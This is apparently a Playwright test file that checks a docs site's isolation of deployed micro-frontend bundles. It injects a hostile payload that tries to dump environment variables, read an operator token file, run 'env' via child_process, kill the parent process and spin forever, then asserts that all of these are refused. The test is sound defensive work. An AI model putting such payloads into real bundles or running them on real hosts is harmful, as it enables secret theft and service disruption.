import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { buildRemote } from '@webdocs/workbench/bundling/build-deployable';
import { relabelBuild } from '@webdocs/workbench/bundling/relabel-build';
import type { RunningSite } from '../../site/running-site.ts';
import { expect, startsWithinMs, test as base } from '../../site/site-test.ts';
import { siteCommand } from '../../site/site-command.ts';

const remote = 'mfe-docs';
const addresses = ['/en-US/docs/Web/CSS', '/en-US/docs/Web/HTML', '/en-US/docs/Web/JavaScript'] as const;
const secret = 'a-secret-that-only-the-site-knows';
/** What never ends is given up as on a site of readers. */
const asForReaders = { WEBDOCS_DEADLINE_MAIN: '2000', WEBDOCS_DEADLINE_SLOT: '500', WEBDOCS_DEADLINE_FRAME: '1000' };

/** Runs while the bundle loads and at each render, and puts what it got hold of into the page. */
const plunder = `
;(() => {
  const loot = [];
  const attempt = async (name, steal) => {
    try { loot.push(name + '=' + String(await steal())); } catch (error) {
      try { loot.push(name + '=' + String(error.constructor.constructor('return JSON.stringify(process.env)')())); } catch { loot.push(name + ' refused'); }
    }
  };
  const attempts = async () => {
    await attempt('environment', () => JSON.stringify(process.env));
    await attempt('report', () => JSON.stringify(process.report.getReport().environmentVariables));
    await attempt('file', () => globalThis.require('node:fs').readFileSync('@token@', 'utf8'));
    await attempt('module', async () => (await import('node:fs')).readFileSync('@token@', 'utf8'));
    await attempt('stack', () => { const odd = new Error(); odd.name = Symbol(); return odd.stack; });
    await attempt('program', () => process.getBuiltinModule('child_process').execSync('env'));
    await attempt('network', async () => (await fetch('@site@/_operator/live')).status);
    await attempt('signal', () => process.kill(process.ppid, 'SIGKILL'));
    await attempt('end', () => process.exit(1));
  };
  void attempts();
  const entry = module.exports.default;
  const render = entry.render.bind(entry);
  const hostile = { ...entry, render: async (request) => {
    loot.length = 0;
    await attempts();
    setInterval(() => { for (;;); }, 5);
    return (await render(request)) + '<p id="loot">' + loot.join('; ') + '</p>';
  } };
  module.exports = { ...module.exports, default: hostile };
})();`;

const loops = `
;(() => { module.exports = { ...module.exports, default: { ...module.exports.default, render: async () => { for (;;); } } }; })();`;

interface Story {
  /** A site with a secret in its environment. */
  readonly attacked: RunningSite;
  /** Puts the remote live with this after its own server bundle. */
  readonly deployWith: (name: string, code: string) => Promise<void>;
}

const test = base.extend<Story>({
  attacked: [
    async ({ sites }, use) =>
      use(await sites.with({ environment: { WEBDOCS_IDENTITY_CLIENT_SECRET: secret, ...asForReaders }, isToBreak: true })),
    { timeout: startsWithinMs },
  ],
  baseURL: async ({ attacked }, use) => use(attacked.address),
  deployWith: async ({ attacked }, use, testInfo) => {
    testInfo.setTimeout(180_000);
    const folder = await mkdtemp(join(tmpdir(), 'webdocs-hostile-'));
    await use(async (name, code) => {
      const build = await buildRemote(remote);
      const whole = await readFile(join(build.folder, build.release.server), 'utf8');
      const end = whole.slice(-100);
      const version = `${build.release.version}.${name}`;
      await attacked.deploy(await relabelBuild(build, join(folder, name), { version, words: { [end]: end + code } }));
    });
    await attacked.restore();
    await rm(folder, { recursive: true });
  },
});

test('a deployed bundle that tries every door gets nothing, and its pages and all others are served', async ({
  attacked,
  deployWith,
  page,
}) => {
  const tokenFile = join(attacked.dataFolder, 'operator-token');
  const token = (await readFile(tokenFile, 'utf8')).trim();
  await deployWith('hostile', plunder.replaceAll('@token@', tokenFile).replaceAll('@site@', attacked.address));
  for (const address of addresses) {
    const { status, html } = await served(attacked.address + address);
    expect(status).toBe(200);
    const loot = /<p id="loot">(.*?)<\/p>/.exec(html)?.[1] ?? '';
    expect(loot.split('; ')).toEqual(
      ['environment', 'report', 'file', 'module', 'stack', 'program', 'network', 'signal', 'end'].map((name) => `${name} refused`),
    );
    for (const stolen of [secret, token, 'WEBDOCS_']) expect(html.includes(stolen), stolen).toBe(false);
  }
  await blogIsServed(page, attacked.address);
  const { code, output } = await siteCommand(attacked.dataFolder, 'rollback', remote);
  expect(code, output).toBe(0);
  expect((await served(attacked.address + addresses[0])).html).not.toContain('id="loot"');
});

test('a deployed bundle that never ends its render costs its own part alone', async ({ attacked, deployWith, page }) => {
  await deployWith('loops', loops);
  const { status, html } = await served(attacked.address + addresses[0]);
  expect(status).toBe(200);
  expect(html).toMatch(/<h1[^>]*>CSS/);
  await blogIsServed(page, attacked.address);
  await expect(page.getByRole('contentinfo').getByRole('link', { name: 'About', exact: true })).toBeVisible();
});

/** Whole, and not as the text that is left where its part failed: a new process takes a while on a busy machine. */
async function blogIsServed(page: Page, site: string): Promise<void> {
  await expect.poll(async () => (await served(`${site}/en-US/blog/`)).html, { timeout: 60_000 }).toContain('Blog it better');
  await page.goto('/en-US/blog/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Blog it better');
}

async function served(address: string): Promise<{ readonly status: number; readonly html: string }> {
  const response = await fetch(address);
  return { status: response.status, html: await response.text() };
}
